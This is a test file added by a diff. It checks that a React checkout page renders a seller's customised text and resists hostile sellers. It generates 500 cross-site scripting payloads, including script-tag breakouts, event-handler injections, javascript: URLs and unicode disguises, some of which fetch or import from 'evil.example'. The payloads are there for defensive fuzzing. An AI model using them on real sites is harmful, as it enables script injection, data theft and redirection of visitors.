@@ -1,0 +1,205 @@
+import { renderToString } from 'react-dom/server'
+import { beforeAll, describe, expect, it } from 'vitest'
+import type { CheckoutAnswer } from '#contract/calls/product.ts'
+import type { Page } from '#contract/page.ts'
+import { accentStyle } from '#rules/accent.ts'
+import { LOCALES, type Locale } from '#rules/locale.ts'
+import { ALL_TEXTS } from '#texts/all.ts'
+import { SELLER_PAGE } from '#texts/seller-page.ts'
+import { loadTopic, topicTexts } from '#texts/topics.ts'
+import { App } from '../app/app.tsx'
+import { bumpStyle, dressStyle } from '../app/bump-style.ts'
+import { prepareDocument } from '../app/document.ts'
+import { checkoutOf } from '../fixtures/checkout.ts'
+import { PAID_SALE, pageOf } from '../fixtures/sale.ts'
+import { SCREEN_TOPICS } from '../app/screen-topics.ts'
+import type { AnyScreenModule } from '../app/screen.ts'
+import * as checkout from './checkout/index.tsx'
+import * as success from './success/index.tsx'
+
+const PLAIN = checkoutOf()
+
+type Custom = Partial<CheckoutAnswer['custom_checkout']>
+
+/** Every field in which a seller writes words or addresses. */
+const WORDS = [
+  'logotipo',
+  'button_text',
+  'ob_title',
+  'ob_subtitle',
+  'ob_description',
+  'top_thumb',
+  'bottom_thumb',
+  'side_thumb',
+  'side_thumb_mobile',
+  'top_thumb_alt',
+  'bottom_thumb_alt',
+  'side_thumb_alt',
+  'scarcity_title',
+  'scarcity_subtitle',
+  'whatsapp_number',
+  'whatsapp_msg',
+] as const satisfies (keyof Custom)[]
+
+const customOf = (word: (place: number) => string): Custom => ({
+  id: 503,
+  is_dressed: true,
+  ob_custom: true,
+  scarcity_time: 15,
+  ...Object.fromEntries(WORDS.map((name, place) => [name, word(place)])),
+})
+
+async function documentOf(screen: AnyScreenModule, data: Page['data'], locale: Locale): Promise<string> {
+  const texts = ALL_TEXTS[locale]
+  const page = pageOf(data, locale, { path: '/1001' })
+  const prepared = await screen.prepare?.(data, page.frame)
+  const body = renderToString(<App page={page} texts={texts} screen={screen} prepared={prepared} />)
+  const head = screen.head(data, texts, page.frame)
+  const scripts = { entry: '/assets/entry.js', preload: [] }
+  const write = prepareDocument({ page, texts, head, preview: '', body, styles: '', scripts })
+  return new TextDecoder().decode(write(page, 'nonce'))
+}
+
+const CHECKOUT = checkout as unknown as AnyScreenModule
+const SUCCESS = success as unknown as AnyScreenModule
+
+const checkoutPage = (word: (place: number) => string, locale: Locale) =>
+  documentOf(CHECKOUT, checkoutOf({ custom: customOf(word), product: namesOf(word) }), locale)
+
+/** The names that stand beside what was customised. */
+const namesOf = (word: (place: number) => string) => ({
+  name: word(20),
+  access: word(21),
+  author: word(22),
+  seller: { ...PLAIN.checkout.data.seller, name: word(23) },
+})
+
+const successPage = (word: (place: number) => string, locale: Locale) =>
+  documentOf(
+    SUCCESS,
+    {
+      screen: 'success',
+      followed: { sale: { ...PAID_SALE, seller: { ...PAID_SALE.seller, name: word(1) } }, token: 't' },
+      look: { theme: 'dark', theme_color: word(2), logotipo: word(3) },
+      pendingFraudAnalysis: false,
+      others: [],
+      upsell: null,
+    },
+    locale,
+  )
+
+/**
+ * What a document is made of, without what stands between tags or is the value of an attribute. React asks early for
+ * pictures, but for none whose address holds its data.
+ */
+const skeleton = (html: string): string =>
+  (html.replace(/<link rel="preload" as="image" href="[^"]*"\/>/g, '').match(/<[^>]*>/g) ?? [])
+    .map((tag) => tag.replace(/"[^"]*"/g, '""'))
+    .join('\n')
+
+const RUNS = [
+  'alert(1)',
+  'fetch("//evil.example")',
+  'location="//evil.example"',
+  'import("//evil.example/x.js")',
+]
+const WRAPS: readonly ((run: string) => string)[] = [
+  (run) => `<script>${run}</script>`,
+  (run) => `</script><script>${run}</script>`,
+  (run) => `<!--<script>${run}//-->`,
+  (run) => `"><script>${run}</script>`,
+  (run) => `'><img src=x onerror=${run}>`,
+  (run) => `" onerror="${run}`,
+  (run) => `' onload='${run}`,
+  (run) => `" onfocus=${run} autofocus x="`,
+  (run) => `javascript:${run}`,
+  (run) => `JaVa\tScRiPt:${run}`,
+  (run) => `data:text/html,<script>${run}</script>`,
+  (run) => `<svg/onload=${run}>`,
+  (run) => `<svg><script>${run}</script></svg>`,
+  (run) => `</style><script>${run}</script>`,
+  (run) => `</title><script>${run}</script>`,
+  (run) => `</textarea><script>${run}</script>`,
+  (run) => `</noscript><script>${run}</script>`,
+  (run) => `</template><script>${run}</script>`,
+  (run) => `<iframe srcdoc="<script>${run}</script>">`,
+  (run) => `<base href="//evil.example/"><script>${run}</script>`,
+  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  (run) => `<form action="javascript:${run}"><button>`,
+  (run) => `<a href="javascript:${run}">x</a>`,
+  (run) => `<object data="javascript:${run}">`,
+  (run) => `<details open ontoggle=${run}>`,
+]
+const DISGUISES: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => text.toUpperCase(),
+  (text) => `\u202E${text}`,
+  (text) => `${text}\u2028`,
+  (text) => `${text.replaceAll('<', '<\u200B<')}\u200B`,
+]
+const PAYLOADS = RUNS.flatMap((run) =>
+  WRAPS.flatMap((wrap) => DISGUISES.map((disguise) => disguise(wrap(run)))),
+)
+/** Every payload stands somewhere on some page; with HOSTILE=all each stands in every field. */
+const STEP = process.env['HOSTILE'] === 'all' ? 1 : 10
+const payload = (place: number): string => PAYLOADS[place % PAYLOADS.length] ?? ''
+
+beforeAll(async () => {
+  for (const locale of LOCALES) {
+    await Promise.all(SCREEN_TOPICS.success.map((topic) => loadTopic(topic, locale)))
+  }
+})
+
+describe('a page that its seller has dressed', () => {
+  it.each(LOCALES)('says what was written for it, in %s', async (locale) => {
+    const html = await checkoutPage((place) => `word-${place}`, locale)
+    const own = SELLER_PAGE[locale]
+    for (const place of WORDS.keys()) expect(html).toContain(`word-${place}`)
+    expect(html).toContain(own.whatsapp)
+    expect(html).toContain(`aria-label="${own.timeLeft}"`)
+    expect(html).not.toMatch(/\sstyle="/)
+  })
+
+  it('tells of the guarantee unless its seller does not want that', async () => {
+    const { warranty } = topicTexts('trust', 'pt').secureCard
+    const page = (custom: Custom) =>
+      documentOf(CHECKOUT, checkoutOf({ custom, product: { warranty_days: 30 } }), 'pt')
+    expect(await page({})).toContain(warranty({ days: 30 }))
+    expect(await page({ warranty_checkout: false })).not.toContain(warranty({ days: 30 }))
+  })
+})
+
+describe('a hostile seller', () => {
+  it('has 500 payloads', () => expect(new Set(PAYLOADS).size).toBe(500))
+
+  it.each(['light', 'dark'] as const)('gets nothing but colours into the styles (%s)', () => {
+    for (const text of PAYLOADS) {
+      const look = {
+        ob_custom: true,
+        ob_background_color: text,
+        ob_border: text,
+        scarcity_background_color: text,
+      }
+      const css = accentStyle(text) + bumpStyle(look) + dressStyle(look)
+      expect(css).toMatch(/^(?:[a-z0-9-]+|[:;{}#=[\]()@ ])+$/)
+      expect(css).not.toContain('evil')
+    }
+  })
+
+  it('leaves its place nowhere on the checkout, with every payload in every field', async () => {
+    const calm = skeleton(await checkoutPage((place) => `word-${place}`, 'pt'))
+    for (let at = 0; at < PAYLOADS.length; at += STEP) {
+      const html = await checkoutPage((place) => payload(at + place), 'pt')
+      expect(skeleton(html)).toBe(calm)
+    }
+  }, 120_000)
+
+  it.each(LOCALES)('nor in %s, nor after the purchase', async (locale) => {
+    const calm = skeleton(await checkoutPage((place) => `word-${place}`, locale))
+    const after = skeleton(await successPage((place) => `word-${place}`, locale))
+    for (let at = 0; at < PAYLOADS.length; at += 100) {
+      expect(skeleton(await checkoutPage((place) => payload(at + place), locale))).toBe(calm)
+      expect(skeleton(await successPage((place) => payload(at + place), locale))).toBe(after)
+    }
+  })
+})
